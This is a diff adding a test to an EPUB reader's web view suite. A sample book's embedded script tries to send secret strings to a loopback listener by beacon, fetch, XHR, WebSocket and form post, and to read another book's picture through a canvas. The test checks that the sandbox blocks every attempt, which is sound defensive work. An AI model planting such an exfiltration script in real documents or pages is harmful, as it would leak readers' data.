@@ -5,8 +5,12 @@
 #include "ui/reader/BookWebProfile.h"
 #include "ui/reader/PageScripts.h"
 
+#include <QBuffer>
 #include <QEventLoop>
+#include <QImage>
 #include <QJsonDocument>
+#include <QTcpServer>
+#include <QTcpSocket>
 #include <QTimer>
 #include <QWebEnginePage>
 #include <QWebEngineView>
@@ -288,4 +292,153 @@ TEST_F(EpubWebViewTest, PageScriptsLiveInTheirOwnWorldAndKeepTheirNumbering)
     EXPECT_EQ(js(QStringLiteral("setHighlight('9_x','highlight_color1',40,0,41,2,{})"), ours).toString(),
         QStringLiteral("false"))
         << "positions beyond the page draw nothing";
+}
+
+namespace
+{
+
+// A loopback listener that counts every connection and answers any request
+// with a short HTTP reply, so a request that gets out ends quickly instead
+// of hanging the page's callbacks.
+class LoopbackSink : public QObject
+{
+public:
+    LoopbackSink()
+    {
+        m_server.listen(QHostAddress::LocalHost, 0);
+        QObject::connect(&m_server, &QTcpServer::newConnection, this, [this] {
+            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
+                ++connections;
+                QObject::connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
+                    received += socket->readAll();
+                    socket->write("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nAccess-Control-Allow-Origin: *\r\n"
+                                  "Connection: close\r\n\r\nok");
+                    socket->disconnectFromHost();
+                });
+                QObject::connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
+            }
+        });
+    }
+    quint16 port() const { return m_server.serverPort(); }
+
+    int connections = 0;
+    QByteArray received;
+
+private:
+    QTcpServer m_server;
+};
+
+QByteArray pngBytes(int width)
+{
+    QImage image(width, 8, QImage::Format_RGB32);
+    image.fill(Qt::darkRed);
+    QByteArray bytes;
+    QBuffer buffer(&bytes);
+    buffer.open(QIODevice::WriteOnly);
+    image.save(&buffer, "PNG");
+    return bytes;
+}
+
+} // namespace
+
+// A book's script tries every way out: to the network and into another
+// book's pictures. Nothing may reach the listener, and only the book's own
+// picture may be read back from a canvas.
+TEST_F(EpubWebViewTest, BookScriptsReachNeitherTheNetworkNorOtherBooks)
+{
+    installSampleBook(QStringLiteral("anatomy-basics.epub"));
+    LoopbackSink sink;
+    ASSERT_NE(sink.port(), 0);
+    const QByteArray web = "http://127.0.0.1:" + QByteArray::number(sink.port());
+    const QByteArray otherPicture
+        = BookUrl::entryUrl(QStringLiteral("anatomy-basics.epub"), QStringLiteral("OEBPS/images/cover.png"))
+              .toEncoded();
+    // Runs as soon as the parser meets it, before any later markup; the
+    // results go into window.probe, pending counts the channels not yet
+    // settled, policyRefusals the content security policy's refusals. HTML
+    // elements are made with their namespace, so the same script runs in a
+    // drawing (SVG) page, which has no place to submit a form from.
+    const QByteArray script = "//<![CDATA[\n"
+                              "var probe = {}; var policyRefusals = []; var WEB = '"
+        + web + "'; var OTHER = '" + otherPicture
+        + "';\n"
+          "var XHTML = 'http://www.w3.org/1999/xhtml'; var withForm = !(document instanceof XMLDocument)"
+          "  || document.documentElement.namespaceURI === XHTML;\n"
+          "var pending = withForm ? 7 : 6;\n"
+          "document.addEventListener('securitypolicyviolation', function (e) {"
+          "  policyRefusals.push(e.violatedDirective);"
+          "  if (e.violatedDirective === 'form-action') settle('form', 'refused'); });\n"
+          "function make(name) { return document.createElementNS(XHTML, name); }\n"
+          "function settle(key, value) { if (!(key in probe)) { probe[key] = value; pending--; } }\n"
+          "try { probe.beacon = String(navigator.sendBeacon(WEB + '/beacon', 'secret-beacon')); }"
+          " catch (e) { probe.beacon = 'threw'; }\n"
+          "fetch(WEB + '/fetch', { method: 'POST', body: 'secret-fetch', mode: 'no-cors' })"
+          "  .then(function () { settle('fetch', 'sent'); }, function () { settle('fetch', 'blocked'); });\n"
+          "try { var x = new XMLHttpRequest(); x.open('POST', WEB + '/xhr');"
+          "  x.onload = function () { settle('xhr', 'sent'); };"
+          "  x.onerror = function () { settle('xhr', 'blocked'); }; x.send('secret-xhr'); }"
+          " catch (e) { settle('xhr', 'threw'); }\n"
+          "try { var ws = new WebSocket(WEB.replace('http', 'ws') + '/ws');"
+          "  ws.onopen = function () { settle('socket', 'open'); };"
+          "  ws.onerror = function () { settle('socket', 'blocked'); }; }"
+          " catch (e) { settle('socket', 'threw'); }\n"
+          "function readBack(key, url) { var img = new Image();"
+          "  img.onload = function () { try { var c = make('canvas');"
+          "    c.width = img.naturalWidth; c.height = img.naturalHeight;"
+          "    c.getContext('2d').drawImage(img, 0, 0);"
+          "    settle(key, 'read ' + c.toDataURL('image/png').length); }"
+          "    catch (e) { settle(key, 'tainted'); } };"
+          "  img.onerror = function () { settle(key, 'not loaded'); }; img.src = url; }\n"
+          "readBack('ownPicture', 'own.png'); readBack('otherPicture', OTHER);\n"
+          "readBack('webPicture', WEB + '/picture.png');\n"
+          "if (withForm) window.addEventListener('load', function () {"
+          "  var frame = make('iframe'); frame.name = 'sink';"
+          "  document.body.appendChild(frame);"
+          "  frame.onload = function () { settle('form', 'frame loaded'); };"
+          "  var form = make('form'); form.method = 'post'; form.target = 'sink';"
+          "  form.action = WEB + '/form'; var field = make('input');"
+          "  field.name = 'secret'; field.value = 'secret-form'; form.appendChild(field);"
+          "  document.body.appendChild(form);"
+          "  try { form.submit(); } catch (e) { settle('form', 'threw'); } });\n"
+          "//]]>";
+    // The HTML page opens with an empty comment the way the HTML parser reads
+    // it ("<!-->"), so its script comes before anything else of the page.
+    const QByteArray html = "<!DOCTYPE html><!--><script>" + script + "</script><title>p</title><p>probe</p>";
+    const QByteArray xhtml = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE html>\n"
+                             "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><script>"
+        + script + "</script><title>p</title></head><body><p>probe</p></body></html>";
+    // A drawing gets no policy of its own: only the request filter and the
+    // handler stand between its script and the listener.
+    const QByteArray svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script>"
+        + script + "</script></svg>";
+    DataFolder::createContentsFolder();
+    ASSERT_TRUE(writeZip(DataFolder::contentsFolder() + QStringLiteral("/exfiltrate.epub"),
+        { { "probe.html", html }, { "probe.xhtml", xhtml }, { "probe.svg", svg },
+            { "own.png", pngBytes(12) } }));
+
+    struct Case {
+        const char *entry;
+        bool policy; // the page carries the content security policy
+    };
+    for (const Case &c :
+        { Case { "probe.html", true }, Case { "probe.xhtml", true }, Case { "probe.svg", false } }) {
+        SCOPED_TRACE(c.entry);
+        ASSERT_TRUE(load(BookUrl::entryUrl(QStringLiteral("exfiltrate.epub"), QLatin1String(c.entry))));
+        ASSERT_TRUE(waitFor(QStringLiteral("typeof pending !== 'undefined' && pending === 0")))
+            << QJsonDocument::fromVariant(js(QStringLiteral("probe")))
+                   .toJson(QJsonDocument::Compact)
+                   .toStdString();
+        const QVariantMap probe = js(QStringLiteral("probe")).toMap();
+        const QStringList refusals = js(QStringLiteral("policyRefusals")).toStringList();
+        const std::string summary
+            = QJsonDocument::fromVariant(probe).toJson(QJsonDocument::Compact).toStdString()
+            + " policy refusals: " + refusals.join(u' ').toStdString();
+        EXPECT_TRUE(probe.value(QStringLiteral("ownPicture")).toString().startsWith(QLatin1String("read ")))
+            << "the book's own picture stays readable: " << summary;
+        EXPECT_NE(probe.value(QStringLiteral("otherPicture")).toString().left(5), QStringLiteral("read "))
+            << "another book's picture cannot be read back: " << summary;
+        EXPECT_EQ(refusals.contains(QStringLiteral("connect-src")), c.policy) << summary;
+        EXPECT_EQ(sink.connections, 0) << summary << "\nreceived: " << sink.received.toStdString();
+    }
+    EXPECT_EQ(sink.connections, 0) << sink.received.toStdString();
 }
